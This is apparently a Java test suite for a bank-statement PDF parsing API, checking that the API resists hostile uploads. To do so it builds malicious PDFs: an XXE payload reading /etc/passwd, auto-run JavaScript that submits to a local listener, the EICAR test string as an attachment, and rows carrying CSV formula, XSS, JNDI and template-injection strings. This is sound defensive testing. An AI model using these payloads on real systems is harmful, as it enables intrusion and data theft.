package za.co.spikedata.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import tools.jackson.databind.JsonNode;
import za.co.spikedata.bench.hostile.Family;
import za.co.spikedata.bench.paper.TypedPaper;
import za.co.spikedata.samples.Layout;
import za.co.spikedata.samples.Samples;
import za.co.spikedata.samples.Wish;
import za.co.spikedata.support.PortalTest;

/** What programs are told of files whose contents are an attack. */
@PortalTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ApiContentsTest {
    private static final byte[] GOOD = Samples.statement(Layout.FNB, Wish.usual(284)).pdf();
    private static final String FAILED = "error/common/exception";
    private static final int HOSTILE_AT_ONCE = 8;
    private static final int GOOD_AT_ONCE = 4;

    /** Made here, so that no scanner takes this file for it. */
    private static final String VIRUS =
            String.join("", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD", "-ANTIVIRUS-TEST-")
                    + "FILE!$H+H*";

    @LocalServerPort private int port;
    @Autowired private ApplicationContext portal;
    private Program program;
    private Documents documents;

    @BeforeAll
    void keysAreMade() {
        program = new Program(port).with(new Holder(portal, "spike").pair().secret());
        documents =
                Documents.of(new Program(port).with(new Holder(portal, "spike").pair().secret()));
    }

    @Test
    @DisplayName("UPL-02 reads good files right while hostile ones are read beside them")
    void readsGoodFilesBesideHostileOnes() throws Exception {
        var other = new Program(port).with(new Holder(portal, "acme").pair().secret());
        var alone = data(other, GOOD);
        var families = Family.all(List.of(GOOD));
        var hostile = new ArrayList<Callable<JsonNode>>();
        var good = new ArrayList<Callable<JsonNode>>();
        for (int i = 0; i < HOSTILE_AT_ONCE; i++) {
            var file = families.get(i * families.size() / HOSTILE_AT_ONCE).draw();
            var bytes = file.apply(new Random(i));
            hostile.add(() -> program.envelope("/pdf2", Program.body(bytes)));
        }
        for (int i = 0; i < GOOD_AT_ONCE; i++) {
            good.add(() -> data(other, GOOD));
        }

        try (var together = Executors.newVirtualThreadPerTaskExecutor()) {
            var answers = hostile.stream().map(together::submit).toList();
            var read = good.stream().map(together::submit).toList();
            for (var each : read) {
                assertThat(each.get()).isEqualTo(alone);
            }
            for (var each : answers) {
                assertThat(each.get().get("code").stringValue()).isNotEqualTo(FAILED);
            }
        }
    }

    @Test
    @DisplayName("UPL-11 UPL-12 UPL-22 takes what a PDF carries for data, and asks nobody for it")
    void takesWhatAPdfCarriesForData() throws Exception {
        try (var listening = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            var loaded = loaded("http://127.0.0.1:" + listening.getLocalPort() + "/");
            assertThat(new String(loaded, StandardCharsets.ISO_8859_1)).contains("JavaScript");

            assertThat(data(program, loaded)).isEqualTo(data(program, GOOD));
            listening.setSoTimeout(100);
            assertThatThrownBy(listening::accept).isInstanceOf(SocketTimeoutException.class);
        }
    }

    @Test
    @DisplayName("UPL-13 UPL-14 writes what a paper says as text in every form")
    void writesWhatAPaperSaysAsText() throws Exception {
        var path =
                documents.ended(
                        TypedPaper.of(
                                """
                                Statement account 62001122334   01 Mar 2026 to 31 Mar 2026
                                Date          Details                          Amount       Balance
                                01 Mar 2026   Opening balance                             1,000.00
                                02 Mar 2026   =HYPERLINK("http://x")          -100.00       900.00
                                03 Mar 2026   <script>alert(1)</script>        -50.00       850.00
                                04 Mar 2026   ${jndi:ldap://x} {{7*7}}          25.00       875.00
                                05 Mar 2026   +cmd|' /C calc'!A0               -75.00       800.00
                                06 Mar 2026   @SUM(1)                         -100.00       700.00
                                              Closing balance                               700.00
                                """));
        var result = Documents.json(documents.get(path + "/result"));
        var rows = result.get("statements").get(0).get("transactions");
        assertThat(rows.size()).isEqualTo(5);
        assertThat(rows.get(0).get("description").get(0).stringValue())
                .isEqualTo("=HYPERLINK(\"http://x\")");

        var csv = documents.with("Accept", "text/csv").get(path + "/result");
        assertThat(csv.body())
                .contains("\"'=HYPERLINK(\"\"http://x\"\")\"", "\"'+cmd|", "\"'@SUM(1)\"")
                .contains("\"-100.00\"", "${jndi:ldap://x} {{7*7}}");
        var xml = documents.with("Accept", "application/xml").get(path + "/result");
        var said =
                DocumentBuilderFactory.newInstance()
                        .newDocumentBuilder()
                        .parse(
                                new ByteArrayInputStream(
                                        xml.body().getBytes(StandardCharsets.UTF_8)))
                        .getElementsByTagName("AddtlNtryInf");
        assertThat(said.item(1).getTextContent()).isEqualTo("<script>alert(1)</script>");
        for (var answer : List.of(csv, xml)) {
            assertThat(answer.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        }
    }

    @ParameterizedTest(name = "UPL-16 proves nothing by {0}")
    @ValueSource(strings = {"1e308", "0x10", "1.00.00", "--5.00", "+-5.00", "NaN", "1/2"})
    void provesNothingByWhatIsNoAmount(String odd) {
        var path = documents.ended(paper(odd, "1,000.00"));

        assertThat(Documents.json(documents.get(path)).path("verdict").asString(""))
                .isNotEqualTo("proven");
    }

    @Test
    @DisplayName("UPL-16 reads long and foreign amounts to the cent, or not at all")
    void readsAmountsToTheCent() {
        var path = documents.ended(paper("-98,765,432,109.87", "-98,765,431,109.87"));
        assertThat(documents.get(path + "/result").body()).contains("-98765432109.87");

        var endless = documents.ended(paper("9".repeat(99) + ".00", "1,000.00"));
        assertThat(Documents.json(documents.get(endless)).path("verdict").asString(""))
                .isNotEqualTo("proven");
    }

    @Test
    @DisplayName("UPL-18 refuses ten thousand pages, and says that it is their number")
    void refusesTooManyPages() throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var file = new PDDocument()) {
            for (int i = 0; i < 10_000; i++) {
                file.addPage(new PDPage());
            }
            file.save(bytes);
        }

        var known = Documents.json(documents.get(documents.ended(bytes.toByteArray())));

        assertThat(known.get("state").stringValue()).isEqualTo("refused");
        assertThat(known.get("reason").stringValue()).isEqualTo("too-many-pages");
    }

    private static byte[] paper(String amount, String balance) {
        return TypedPaper.of(
                """
                Statement account 62001122334   01 Mar 2026 to 31 Mar 2026
                Date          Details                          Amount               Balance
                01 Mar 2026   Opening balance                                      1,000.00
                02 Mar 2026   GROCER              %26s  %20s
                              Closing balance                         %20s
                """
                        .formatted(amount, balance, balance));
    }

    private static JsonNode data(Program program, byte[] pdf) {
        return program.envelope("/pdf2", Program.body(pdf)).get("data");
    }

    /** The good file with a script, a form, metadata and a virus that all want to be asked for. */
    private static byte[] loaded(String address) throws IOException {
        var bomb =
                """
                <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">
                <!ENTITY f SYSTEM "file:///etc/passwd">]><x>&e;&f;</x>
                """
                        .formatted(address)
                        .getBytes(StandardCharsets.UTF_8);
        try (PDDocument file = Loader.loadPDF(GOOD)) {
            var catalog = file.getDocumentCatalog();
            catalog.setOpenAction(
                    new PDActionJavaScript(
                            "this.submitForm('" + address + "'); app.launchURL('x')"));
            catalog.setMetadata(new PDMetadata(file, new ByteArrayInputStream(bomb)));
            var form = new PDAcroForm(file);
            var stream = new COSStream();
            try (var out = stream.createOutputStream()) {
                out.write(bomb);
            }
            form.setXFA(new PDXFAResource(stream));
            catalog.setAcroForm(form);
            var attachment =
                    new PDEmbeddedFile(
                            file,
                            new ByteArrayInputStream(VIRUS.getBytes(StandardCharsets.US_ASCII)));
            var specification = new PDComplexFileSpecification();
            specification.setFile("invoice.com");
            specification.setEmbeddedFile(attachment);
            var tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("invoice.com", specification));
            var names = new PDDocumentNameDictionary(catalog);
            names.setEmbeddedFiles(tree);
            catalog.setNames(names);
            var bytes = new ByteArrayOutputStream();
            file.save(bytes, CompressParameters.NO_COMPRESSION);
            return bytes.toByteArray();
        }
    }
}
